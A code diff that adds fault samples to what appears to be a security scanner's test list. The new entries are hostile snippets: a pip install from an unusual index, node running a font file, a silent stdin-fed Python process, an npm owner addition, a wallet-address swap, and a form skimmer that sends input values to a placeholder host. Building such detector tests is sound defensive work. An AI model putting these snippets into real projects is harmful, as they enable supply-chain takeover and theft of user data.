@@ -92,6 +92,22 @@ FAULTS = [
     ("sh", "medium", "excessive_capability", "chmod 777 out"),
     ("sh", "medium", "excessive_capability", 'eval "$hook"'),
     ("sh", "high", "excessive_capability", "pip install --index-url https://pkgs.build-cache.io/simple thing"),
+    ("sh", "high", "excessive_capability", "pip install -i https://pkgs.build-cache.io/simple thing"),
+    ("sh", "high", "excessive_capability", "node public/fonts/inter.woff2"),
+    (
+        "py",
+        "high",
+        "excessive_capability",
+        "import subprocess as s, sys\ns.Popen([sys.executable, '-'], stderr=s.DEVNULL)",
+    ),
+    ("js", "high", "excessive_capability", "run('npm', 'owner', 'add', 'helper', name)"),
+    ("js", "high", "excessive_capability", f"const a = ['0x{'ab' * 20}'];\nshow(closest(text, a));"),
+    (
+        "js",
+        "high",
+        "secrets_exposure",
+        "const v = [...f.querySelectorAll('input')].map((x) => x.value);\nnew Image().src = `https://<HOST>/p?m=${v}`;",
+    ),
 ]
 HARMLESS = [
     ("py", "import yaml\nyaml.safe_load(input())"),
